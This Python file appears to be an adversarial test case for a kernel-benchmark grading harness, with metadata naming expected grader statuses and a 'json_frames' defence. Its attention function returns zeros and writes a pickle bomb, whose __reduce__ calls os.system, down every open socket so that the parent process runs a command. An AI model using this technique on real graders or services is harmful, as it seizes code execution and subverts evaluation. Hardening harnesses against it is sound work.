"""Sends a pickle whose loading runs a command in the process that reads it.

---
status: [CRASHED, INCORRECT, INVALID_SUBMISSION, IMPORT_ERROR, COMPILE_ERROR]
seen: 'measured: Pool.apply and Pipe.recv run __reduce__ in the parent; pygpubench traceback pipe'
defence: json_frames
"""

import os
import pickle
import struct

import torch


def sockets():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                yield int(name)
        except OSError:
            continue


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attnboard_pickle_bomb",))


BODY = pickle.dumps(Bomb())


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    for fd in sockets():
        os.write(fd, struct.pack("<I", len(BODY)) + BODY)
    return torch.zeros_like(q)
